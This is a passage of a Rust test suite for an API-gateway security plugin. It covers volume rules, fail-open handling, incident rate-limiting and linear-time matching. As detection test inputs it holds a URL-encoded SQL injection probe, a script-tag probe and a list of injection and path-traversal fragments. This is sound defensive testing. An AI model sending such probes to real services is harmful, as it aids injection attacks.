    // Anonymous callers are counted by address.
    harness.set_context(context(None, None, "abierto/v1", "produccion"));
    harness.set_client_address(Some("203.0.113.5"));
    harness.request_headers(&get("/abierto/v1/a"));
    harness.request_headers(&get("/abierto/v1/a"));
    harness.set_client_address(Some("203.0.113.6"));
    assert_eq!(
        harness.request_headers(&get("/abierto/v1/a")),
        HeadersAction::Continue
    );
    harness.set_client_address(Some("203.0.113.5"));
    assert!(matches!(
        harness.request_headers(&get("/abierto/v1/a")),
        HeadersAction::Respond(_)
    ));
    assert!(only_incident(&harness)
        .summary
        .contains("address:203.0.113.5"));
}

#[test]
fn volume_rules_per_service_prefix_and_route() {
    let mut harness = plugin(json!({ "volume": {
        "threshold": 100,
        "rules": [{ "name": "segip-personas", "service_prefix": "segip", "path_prefix": "/personas", "threshold": 2, "mode": "block" }]
    } }));
    harness.set_context(context(Some("e"), Some("s"), "segip/v2", "produccion"));
    // Another route of the same service is under the default threshold.
    for _ in 0..5 {
        assert_eq!(
            harness.request_headers(&get("/segip/v2/contrastacion")),
            HeadersAction::Continue
        );
    }
    assert_eq!(
        harness.request_headers(&get("/segip/v2/personas/1")),
        HeadersAction::Continue
    );
    // The rule counts every version of the service together, through the alias too.
    harness.set_context(context(Some("e"), Some("s"), "segip/v1", "pruebas"));
    assert_eq!(
        harness.request_headers(&get("/fake/segip/v1/personas/2")),
        HeadersAction::Continue
    );
    let (status, _) = refused(harness.request_headers(&get("/segip/v1/personas/3")));
    assert_eq!(status, 429);
    let incident = only_incident(&harness);
    assert_eq!(incident.detail["rule"], "segip-personas");
    assert_eq!(
        harness.counter(
            "volume_exceeded_total",
            &[("rule", "segip-personas"), ("action", "blocked")]
        ),
        1
    );
}

#[test]
fn without_the_store_volume_fails_open_and_incidents_are_still_reported() {
    let mut harness = plugin(json!({ "volume": { "threshold": 1, "mode": "block" } }));
    harness.fail_kv(Some(KvError::Unavailable("down".into())));
    for _ in 0..3 {
        assert_eq!(
            harness.request_headers(&get("/x/v1/a")),
            HeadersAction::Continue
        );
    }
    assert_eq!(
        harness.counter("kv_errors_total", &[("operation", "volume")]),
        3
    );
    let (status, problem) = refused(harness.request_headers(&get("/x/v1/a?q=%3Cscript%3E")));
    assert_eq!(status, 403);
    assert_eq!(problem["incident"], "inc-1");
    assert_eq!(
        harness.counter("kv_errors_total", &[("operation", "incident_limit")]),
        1
    );
}

// --- incident rate limiting ----------------------------------------------------------

#[test]
fn a_flood_of_attacks_is_one_incident_per_window() {
    let mut harness = plugin(json!({}));
    let attack = get("/x/v1/a?q=%27%20OR%20%271%27%3D%271");
    let (_, first) = refused(harness.request_headers(&attack));
    assert_eq!(first["incident"], "inc-1");
    for _ in 0..4 {
        let (status, problem) = refused(harness.request_headers(&attack));
        assert_eq!(status, 403);
        assert_eq!(problem["incident"], "inc-1");
        assert!(problem["detail"]
            .as_str()
            .unwrap()
            .contains("(related incident inc-1)"));
    }
    assert_eq!(harness.incidents().len(), 1);
    assert_eq!(
        harness.counter(
            "detections_total",
            &[
                ("category", "sqli"),
                ("location", "query"),
                ("action", "blocked")
            ]
        ),
        5
    );
    assert_eq!(
        harness.counter(
            "incidents_total",
            &[("kind", "cgii.sqli"), ("outcome", "suppressed")]
        ),
        4
    );
    // Another kind, another consumer or another service is its own incident.
    refused(harness.request_headers(&get("/x/v1/a?q=%3Cscript%3E")));
    harness.set_context(context(
        Some("otra"),
        Some("entidad"),
        "test-service",
        "pruebas",
    ));
    refused(harness.request_headers(&attack));
    harness.set_context(context(Some("otra"), Some("entidad"), "sin/v1", "pruebas"));
    refused(harness.request_headers(&attack));
    assert_eq!(harness.incidents().len(), 4);
    // After the window the same attack reports again.
    harness.set_context(context(
        Some("test-entity"),
        Some("test-system"),
        "test-service",
        "pruebas",
    ));
    harness.advance(Duration::from_secs(300));
    let (_, problem) = refused(harness.request_headers(&attack));
    assert_eq!(problem["incident"], "inc-5");
}

#[test]
fn the_rate_limit_is_configurable() {
    let mut harness = plugin(json!({ "incidents": { "max_per_window": 3, "window_seconds": 10 } }));
    let attack = get("/x/v1/a?q=%27%20OR%20%271%27%3D%271");
    for _ in 0..5 {
        refused(harness.request_headers(&attack));
    }
    assert_eq!(harness.incidents().len(), 3);
    let (_, problem) = refused(harness.request_headers(&attack));
    assert_eq!(problem["incident"], "inc-3");
    harness.advance(Duration::from_secs(10));
    refused(harness.request_headers(&attack));
    assert_eq!(harness.incidents().len(), 4);
}

// --- cost ----------------------------------------------------------------------------

#[test]
fn adversarial_bodies_cost_linear_time() {
    // Inputs built to make a naive matcher rescan the rest of the value at every
    // occurrence. On 256 KiB a quadratic scan takes minutes; these take well under a
    // second each (the bound is loose for debug builds on slow, shared machines).
    let patterns: &[&str] = &[
        "&",
        "|",
        "/*a",
        "$(",
        " onerror=",
        "'",
        "\" or ",
        "<a",
        "../",
        "a://",
        "on",
        "%25",
        ";",
        "`a",
        "union ",
        "..",
        "{\"k\":\"",
        "\\u",
        "0x",
        "select ",
        "<img ",
    ];
    let limit = 256 * 1024;
    let mut harness =
        plugin(json!({ "inspect": { "max_body_bytes": limit }, "sensitivity": "high" }));
    for pattern in patterns {
        let body = pattern.repeat(limit / pattern.len());
        let started = std::time::Instant::now();
        send(
            &mut harness,
            &post("/x/v1/a", "text/plain"),
            body.as_bytes(),
            64 * 1024,
        );
        let elapsed = started.elapsed();
        assert!(
            elapsed < Duration::from_secs(5),
            "{pattern:?} took {elapsed:?}"
        );
    }
}
